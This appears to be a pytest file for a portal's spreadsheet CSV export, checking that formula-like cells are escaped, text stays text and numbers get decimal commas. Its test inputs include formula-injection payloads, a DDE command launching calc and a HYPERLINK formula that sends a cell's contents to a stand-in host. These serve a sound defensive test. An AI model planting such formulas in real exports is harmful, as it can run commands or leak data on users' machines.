"""The CSV for spreadsheets: what would run does not, what is text stays text, what is a number stays one."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest

from portal import downloads
from portal.downloads import excel_csv

if TYPE_CHECKING:
    from tests.conftest import Tree


NUMBERS = frozenset({"value", "value_high", "difference", "population"})


def _cell(column: str, cell: str) -> str:
    content = excel_csv.csv_for_excel({column: [cell]}, NUMBERS)
    ((_,), (found,)) = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    return found


@pytest.mark.parametrize(
    "cell",
    [
        *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠x", " =1+1"),
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.invalid?"&A1,"x")',
    ],
)
def test_what_a_spreadsheet_would_run_has_an_apostrophe_before_it(cell: str):
    assert _cell("note_vi", cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["05", "001", "1.234", "0,94%", "118/75", "1/3", "2024-03", "3.1", "1e5", "9" * 16, "10:30"]
)
def test_text_that_would_turn_into_something_else_stays_text(cell: str):
    assert _cell("reported_as", cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["", "gifts", "2024-Q1", "I.3.1", "367", "0", "không có", "5 triệu đồng", "a=b"]
)
def test_other_text_is_left_alone(cell: str):
    assert _cell("reported_as", cell) == cell


@pytest.mark.parametrize(
    ("column", "cell", "expected"),
    [
        ("value", "1234", "1234"),
        ("value", "91.75", "91,75"),
        ("value_high", "0.5", "0,5"),
        ("difference", "-0.5", "-0,5"),
        ("population", "120000", "120000"),
        ("value", "", ""),
    ],
)
def test_numbers_stay_numbers_with_a_decimal_comma(column: str, cell: str, expected: str):
    assert _cell(column, cell) == expected


def test_no_number_column_excuses_a_formula():
    assert _cell("value", "=1+1") == "'=1+1"


def test_excel_knows_encoding_and_separators():
    table = {"name_vi": ["Hộ; nghèo"], "value": ["1.5"]}
    assert excel_csv.csv_for_excel(table, NUMBERS) == '\ufeffname_vi;value\r\n"Hộ; nghèo";1,5\r\n'.encode()


def test_the_csv_for_programs_keeps_every_cell(tree: Tree):
    tree.put("an-2024/observations", "jobs", note_vi="=1+1", note_en="@x")
    source, site = tree.source(), tree.site()
    files = dict(downloads.files(source, site, downloads.collect(source, site)))
    (row,) = (r for r in csv.DictReader(files["observations.csv"].decode().splitlines()) if r["id"] == "jobs")
    assert (row["note_vi"], row["note_en"]) == ("=1+1", "@x")
    assert b";'=1+1;" in files["observations.excel.csv"]
    assert b";'@x;" in files["observations.excel.csv"]


def test_codes_keep_their_zeros(tree: Tree):
    source, site = tree.source(), tree.site()
    files = dict(downloads.files(source, site, downloads.collect(source, site)))
    assert b"huyen-an-001;'001;district" in files["localities.excel.csv"]
